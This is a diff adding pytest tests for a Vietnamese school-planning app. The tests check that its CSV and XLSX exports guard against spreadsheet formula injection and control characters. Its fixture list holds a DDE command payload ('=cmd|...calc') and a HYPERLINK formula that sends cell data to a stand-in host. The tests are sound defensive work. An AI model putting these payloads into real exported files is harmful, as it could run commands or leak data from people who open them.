@@ -1,0 +1,126 @@
+"""Issue 21: what an attack run broke. One test (or a few) per item."""
+
+import csv
+import io
+from datetime import date
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from kdcl import exports, templates
+from kdcl.access import Scope
+from kdcl.importing import Options, Upload, import_files
+
+ADMIN = Scope.everything(user="test")
+NASTY = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1:A2)",
+         "\t=1+1", "'=quoted already", "'plain apostrophe"]  # as many as the tiny database has items
+
+
+def run(store, name, data, scope=ADMIN, **options):
+    [result] = import_files(store, scope, [Upload(name, data)], Options(**options))
+    return result
+
+
+def query(store, sql, *params):
+    with store.cursor() as cur:
+        return cur.execute(sql, list(params)).fetchall()
+
+
+def _set_measures(store, texts):
+    ids = [r[0] for r in query(store, "select item_id from plan_item order by item_id")][: len(texts)]
+    assert len(ids) == len(texts)
+    with store.cursor() as cur:
+        for item_id, text in zip(ids, texts):
+            cur.execute("update plan_item set measures = ? where item_id = ?", [text, item_id])
+    return ids
+
+
+# --------------------------------------------------------------------------- 1. one writer, formula guard
+
+
+def test_template_xlsx_export_never_writes_a_formula(tiny_store):
+    _set_measures(tiny_store, NASTY)
+    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
+    ws = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells}
+    assert set(NASTY) - {"\t=1+1"} <= texts
+
+
+def test_template_csv_export_puts_formula_text_behind_an_apostrophe(tiny_store):
+    _set_measures(tiny_store, NASTY)
+    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    col = rows[0].index("Giải pháp")
+    values = [r[col] for r in rows[1:]]
+    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(A1:A2)" in values
+    assert "''=quoted already" in values and "'plain apostrophe" in values
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_import_round_trip_gives_back_formula_like_text(tiny_store, fmt):
+    texts = [t for t in NASTY if not t.startswith("\t")]
+    ids = _set_measures(tiny_store, texts)
+    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", fmt)
+    _set_measures(tiny_store, ["changed"] * len(texts))
+    result = run(tiny_store, "lai." + fmt, data)
+    assert result.status == "imported", [e.message for e in result.errors]
+    got = [query(tiny_store, "select measures from plan_item where item_id = ?", i)[0][0] for i in ids]
+    assert got == texts
+
+
+def test_control_characters_never_break_an_export(tiny_store):
+    _set_measures(tiny_store, ["Chuông\x07 reo\x1b[31m đỏ"])
+    data, _ = templates.export_bytes(tiny_store, ADMIN, "plan", "xlsx")
+    values = {c.value for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row}
+    assert "Chuông reo[31m đỏ" in values
+    text = templates.export_bytes(tiny_store, ADMIN, "plan", "csv")[0].decode("utf-8-sig")
+    assert "\x07" not in text and "\x1b" not in text and "Chuông reo[31m đỏ" in text
+
+
+def test_write_table_is_the_one_writer(tmp_path):
+    frame = pd.DataFrame({"Ngày": [date(2025, 3, 1)], "Kinh phí": [5_000_000], "Nội dung": ["=1+1\x07"]})
+    out = tmp_path / "a.csv"
+    exports.write_table(frame, out, "csv")
+    assert out.read_bytes().decode("utf-8-sig") == "Ngày,Kinh phí,Nội dung\r\n01/03/2025,5000000,'=1+1\r\n"
+    buffer = io.BytesIO()
+    exports.write_table({"Một": frame, "Hai": frame}, buffer, "xlsx")
+    wb = load_workbook(io.BytesIO(buffer.getvalue()))
+    assert wb.sheetnames == ["Một", "Hai"]
+    a2, b2, c2 = wb["Hai"][2]
+    assert a2.value.date() == date(2025, 3, 1) and a2.number_format == "DD/MM/YYYY"
+    assert b2.value == 5_000_000 and b2.number_format == "#,##0"
+    assert c2.value == "=1+1" and c2.data_type == "s"
+
+
+@pytest.mark.parametrize("page", ["levels", "weaknesses"])
+def test_pages_write_csv_through_the_one_writer(page):
+    from pathlib import Path
+
+    source = (Path(__file__).resolve().parents[1] / "pages" / f"{page}.py").read_text(encoding="utf-8")
+    assert ".to_csv(index=False)" not in source
+
+
+@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "''", "'a", "a'=", "-", "'-5", "\r=1", "plain"])
+def test_the_csv_guard_comes_off_exactly(text):
+    written = exports.csv_text(text)
+    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert exports.unguard_csv(written) == text
+
+
+def test_plan_docx_survives_control_characters(tiny_store):
+    from docx import Document
+
+    from kdcl.data.plan_document import plan_document
+    from kdcl.reports.plan_docx import build_plan_docx
+
+    with tiny_store.cursor() as cur:
+        cur.execute("update plan_item set measures = 'Chuông\x07 reo\x1b[0m' where school_id = 'S1'")
+        cur.execute("update school set name = 'Trường\x0b THCS' where school_id = 'S1'")
+    doc = plan_document(tiny_store, ADMIN, "S1", "2024-2025")
+    document = Document(io.BytesIO(build_plan_docx(doc, today=date(2025, 6, 1))))
+    cells = [c.text for row in document.tables[1].rows for c in row.cells]
+    assert "Chuông reo[0m" in cells
